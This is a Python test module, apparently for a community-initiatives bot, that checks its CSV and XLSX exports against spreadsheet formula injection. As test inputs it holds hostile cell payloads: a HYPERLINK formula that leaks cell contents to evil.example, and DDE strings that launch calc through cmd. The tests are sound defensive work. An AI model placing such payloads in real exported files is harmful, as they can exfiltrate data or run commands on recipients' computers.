"""Every CSV and XLSX the bot writes is data, never a formula (OWASP: CSV injection).

A cell a person typed (an initiative's title, a request's description, a registry name)
that begins with «=», «+», «-», «@», a tab or a carriage return is written with a leading
single quote; XLSX text cells are strings, never formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot import reporting
from bot.domain.registry import Organisation, Tos
from bot.i18n import create_i18n
from bot.services.initiatives import Draft
from bot.services.registry_io import COLUMNS, TYPE_WORDS, table
from bot.services.reports import EXPORTS
from bot.tables import to_csv, to_xlsx
from tests.conftest import ADMIN_ID
from tests.kit import Person, running

NOVOSIBIRSK = ZoneInfo("Asia/Novosibirsk")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_RE = re.compile(r"^-?\d+(\.\d+)?(e[-+]?\d+)?$")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'

# Text as people type it, and text made to look like a formula.
hostile = st.one_of(
    st.text(max_size=40),
    st.builds(
        lambda p, t: p + t, st.sampled_from([*DANGEROUS, "'", "'=", "''-"]), st.text(max_size=20)
    ),
    st.sampled_from([HYPERLINK, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-5"]),
)
optional = st.one_of(st.none(), hostile)
numbers = st.one_of(st.integers(-(10**9), 10**9), st.floats(-180, 180, allow_nan=False))
i18n = create_i18n("ru")


def csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_csv_safe(content: bytes) -> list[list[str]]:
    rows = csv_cells(content)
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS):
                assert NUMBER_RE.match(cell), f"a live cell in the CSV: {cell!r}"
    return rows


def assert_xlsx_safe(content: bytes) -> list[list[Any]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"a formula in the XLSX: {cell.value!r}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(DANGEROUS), cell.value
        rows.append([cell.value for cell in row])
    return rows


def assert_safe(rows: list[list[Any]]) -> None:
    """Both files of a table are safe, and the same numbers come back as numbers."""
    assert_csv_safe(to_csv(rows))
    back = assert_xlsx_safe(to_xlsx(rows))
    for written, read in zip(rows, back, strict=True):
        for value, cell in zip(written, read, strict=False):
            if isinstance(value, int | float) and not isinstance(value, bool):
                assert cell == pytest.approx(value)  # a number cell, a negative one too


def _export_row(what: str, data: st.DataObject) -> dict[str, Any]:
    text = lambda: data.draw(hostile)  # noqa: E731
    maybe = lambda: data.draw(optional)  # noqa: E731
    stamp = "2026-12-03T21:55:00.000000+00:00"
    person = {"first_name": text(), "last_name": maybe(), "username": maybe()}
    if what == "initiatives":
        return {
            "year": 2026,
            "seq": 1,
            "created_at": stamp,
            "direction": text(),
            "status": text(),
            "title": text(),
            "description": text(),
            "address": maybe(),
            "latitude": data.draw(numbers),
            "longitude": data.draw(numbers),
            "tos_name": maybe(),
            "supports": data.draw(numbers),
            **person,
        }
    if what == "requests":
        return {
            "year": 2026,
            "seq": 1,
            "created_at": stamp,
            "kind": text(),
            "status": text(),
            "behalf_kind": "tos",
            "behalf_name": maybe(),
            "description": text(),
            "wanted_date": "2026-12-05",
            "due_at": stamp,
            "closed_at": None,
            "helped": None,
            "phone": maybe(),
            "is_open": 1,
            "overdue": 0,
            "extended_to": data.draw(st.sampled_from([None, stamp])),
            "extension_reason": maybe(),
            **person,
        }
    if what == "events":
        return {
            "title": text(),
            "starts_at": stamp,
            "ends_at": stamp,
            "place": text(),
            "organiser": text(),
            "joint": 1,
            "capacity": data.draw(numbers),
            "tos_name": maybe(),
            "attended": None,
            "going": 3,
            "waiting": 0,
            "cancelled_at": data.draw(st.sampled_from([None, stamp])),
        }
    if what == "competitions":
        return {
            "title": text(),
            "organiser": text(),
            "eligible": text(),
            "opens_at": stamp,
            "deadline": stamp,
            "results_at": None,
            "max_grant": data.draw(numbers),
            "status": text(),
            "applications": 1,
            "winners": 0,
            "awarded": -5,
        }
    if what == "moderation":
        return {
            "year": 2026,
            "seq": 1,
            "at": stamp,
            "initiative_id": 1,
            "id": 1,
            "action": data.draw(st.sampled_from(["report", "auto_hide", "hide", "edit"])),
            "actor_id": data.draw(st.sampled_from([None, 5])),
            "reason": maybe(),
            **person,
        }
    return {
        "competition": text(),
        "body_kind": "tos",
        "body": text(),
        "project": text(),
        "direction": text(),
        "amount": data.draw(numbers),
        "status": text(),
        "result": None,
        "awarded": None,
        "created_at": stamp,
        **person,
    }


@given(data=st.data(), what=st.sampled_from(EXPORTS), personal=st.booleans())
def test_no_export_kind_writes_a_live_cell(data: st.DataObject, what: str, personal: bool) -> None:
    rows = [_export_row(what, data) for _ in range(data.draw(st.integers(1, 3)))]
    with i18n.context(), i18n.use_locale(data.draw(st.sampled_from(["ru", "en"]))):
        table_rows = reporting.export_rows(what, rows, personal, NOVOSIBIRSK)
    assert_safe(table_rows)


@given(
    names=st.lists(hostile, min_size=1, max_size=3),
    texts=st.lists(optional, min_size=3, max_size=3),
    lat=st.floats(-90, 90, allow_nan=False),
)
def test_the_registry_export_writes_no_live_cell(
    names: list[str], texts: list[str | None], lat: float
) -> None:
    labels = {f"col:{key}": key for key in COLUMNS} | {k: k for k in TYPE_WORDS}
    labels |= {"yes": "да", "no": "нет", "kind:ngo": "НКО"}
    tos = [
        Tos(
            n,
            name,
            (texts[0] or "",),
            lat,
            -lat,
            500,
            None,
            date(2020, 1, 1),
            10,
            texts[1],
            texts[2],
            texts[0],
            "join",
            True,
        )
        for n, name in enumerate(names)
    ]
    orgs = [Organisation(9, names[0], "ngo", texts[0], texts[1], True)]
    assert_safe(table(tos, orgs, labels))


def test_tables_neutralise_exactly_the_dangerous_text() -> None:
    rows = [["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "ok", -1, 2.5, "", None, "a=b"]]
    [csv_row] = assert_csv_safe(to_csv(rows))
    assert csv_row == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "''=x",
        "ok",
        "-1",
        "2.5",
        "",
        "",
        "a=b",
    ]
    [xlsx_row] = assert_xlsx_safe(to_xlsx(rows))
    assert xlsx_row == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "''=x",
        "ok",
        -1,
        2.5,
        None,
        None,
        "a=b",
    ]
    # Characters XML cannot hold do not break the file.
    assert assert_xlsx_safe(to_xlsx([["a\x00b\x07=c", "\x01=d"]])) == [["ab=c", "'=d"]]


async def _export(person: Person, what: str, fmt: str) -> bytes:
    await person.send("/export")
    await person.press(what)
    await person.press("Этот год")
    [sent] = await person.press(fmt)
    assert sent.file
    return sent.file[1]


async def test_a_formula_title_is_text_in_both_files(tmp_path: Path) -> None:
    async with running(tmp_path, admin_ids=frozenset({ADMIN_ID})) as h:
        maria = await h.consented(h.user("Мария", user_id=ADMIN_ID))
        anna = await h.consented(h.user("@Анна"))
        await h.app.services.initiatives.submit(
            anna.id,
            Draft(
                direction="improvement",
                title=HYPERLINK,
                description="+7 913 000 00 00, позвоните, пожалуйста, по поводу скамеек.",
            ),
        )
        rows = assert_csv_safe(await _export(maria, "Инициативы", "CSV"))
        assert rows[1][4] == "'" + HYPERLINK
        assert rows[1][5].startswith("'+7 913")
        assert rows[1][-2] == "'@Анна"
        xlsx = assert_xlsx_safe(await _export(maria, "Инициативы", "XLSX"))
        assert xlsx[1][4] == "'" + HYPERLINK


async def test_a_registry_name_round_trips_as_text(tmp_path: Path) -> None:
    from tests.test_registry import import_file

    async with running(tmp_path, admin_ids=frozenset({ADMIN_ID})) as h:
        maria = await h.consented(h.user("Мария", user_id=ADMIN_ID))
        name = '=HYPERLINK("http://evil.example","ТОС")'
        quoted = name.replace('"', '""')
        source = f'тип;название;жителей;широта;долгота\nТОС;"{quoted}";10;54.6;-83.3\n'
        await import_file(maria, "r.csv", source.encode("utf-8-sig"))
        await maria.press("✅ Импортировать 1 строку")
        [tos] = await h.app.db.read.registry.all_tos()
        assert tos.name == name

        await maria.send("/registry")
        [xlsx] = await maria.press("📤 Выгрузить XLSX")
        assert xlsx.file
        rows = assert_xlsx_safe(xlsx.file[1])
        assert rows[1][1] == "'" + name
        assert rows[1][7] == -83.3  # a negative number is a number

        # The file imports back to the same name, not to one with a quote in front.
        [dry] = await import_file(maria, "registry.xlsx", xlsx.file[1])
        assert "Добавить: 0 строк" in dry.text and "Обновить: 1 строку" in dry.text
        await maria.send("/registry")
        [csv_file] = await maria.press("📤 Выгрузить CSV")
        assert csv_file.file
        assert assert_csv_safe(csv_file.file[1])[1][1] == "'" + name
